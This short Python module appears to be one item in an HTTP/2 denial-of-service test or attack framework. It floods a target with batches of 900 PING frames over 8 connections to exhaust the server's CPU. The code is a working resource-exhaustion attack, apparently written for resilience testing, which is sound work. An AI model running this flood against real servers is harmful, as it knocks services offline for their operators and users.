"""PING frames as fast as they are acknowledged: only the CPU is attacked."""

from itertools import repeat

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    batch = frames.frame(frames.PING, payload=b"attacked") * 900
    return await target.flood(8, frames.opening(), lambda: repeat(batch))
